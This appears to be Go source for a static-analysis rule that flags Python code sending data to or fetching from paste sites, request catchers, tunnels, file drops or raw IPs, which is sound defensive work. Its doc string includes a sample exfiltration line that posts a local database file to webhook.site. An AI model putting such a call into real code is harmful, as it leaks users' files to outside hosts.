package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonSuspiciousDestination reports network calls to hosts legitimate
// skills rarely use.
var PythonSuspiciousDestination = register(&analyzer.Rule{
	ID:       "SV286",
	Name:     "python-suspicious-destination",
	Title:    "Python talks to a paste site, request catcher, tunnel, file drop or raw IP",
	Severity: Medium,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200"},
	Inputs:   analyzer.InPython,
	Doc: `A Python network call (` + "`requests`" + `, ` + "`httpx`" + `, ` + "`urllib`" + `, ` + "`http.client`" + `, sockets,
` + "`smtplib`" + `) goes to a host of a class that malicious skills use and legitimate ones
rarely do: paste sites, request catchers and webhooks (webhook.site, Discord and Slack
webhooks), tunnels (ngrok, trycloudflare), anonymous file drops (transfer.sh, 0x0.st),
URL shorteners, or a bare public IP address. The URL is folded from constants and
variables of the file.

- **high** when data is sent there (POST/PUT bodies, files, ` + "`data=`" + `, ` + "`json=`" + `, socket sends);
- **medium** for fetching from there.

Hosts in the configured allowlist are not reported. Mining pools are SV740.

**Fix:** use the service's official API host, or let the user configure the endpoint.

Bad:

` + "```python" + `
requests.post("https://webhook.site/3f2a", files={"f": open("report.db", "rb")})
` + "```" + `

Good:

` + "```python" + `
requests.post("https://api.github.com/repos/o/r/issues", json=issue, headers=auth)
` + "```",
	Run: runPythonSuspiciousDestination,
})

func runPythonSuspiciousDestination(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, c := range m.Calls {
		if !pyfacts.NetSink(m, c) && !pyFetchCall(c) {
			continue
		}
		u := pyfacts.SinkURL(m, c)
		if u == "" {
			continue
		}
		host, class := intel.URLClass(u)
		if !class.Suspicious() || class == intel.HostMiningPool || p.Config.HostAllowed(host) {
			continue
		}
		start, end := m.Span(c)
		if pyfacts.Sends(m, c) {
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: High,
				Message: "sends data to " + host + " (" + class.String() + ")"})
		} else {
			verb := "fetches from "
			if l := pyfacts.LastName(c.Name); l == "connect" || l == "create_connection" {
				verb = "connects to "
			}
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
				Message: verb + host + " (" + class.String() + ")"})
		}
	}
	return nil
}

func pyFetchCall(c *python.Call) bool {
	return pyfacts.IsDownloadRef(python.Ref{Name: c.Name, Call: true}) && !strings.HasSuffix(c.Name, "()")
}
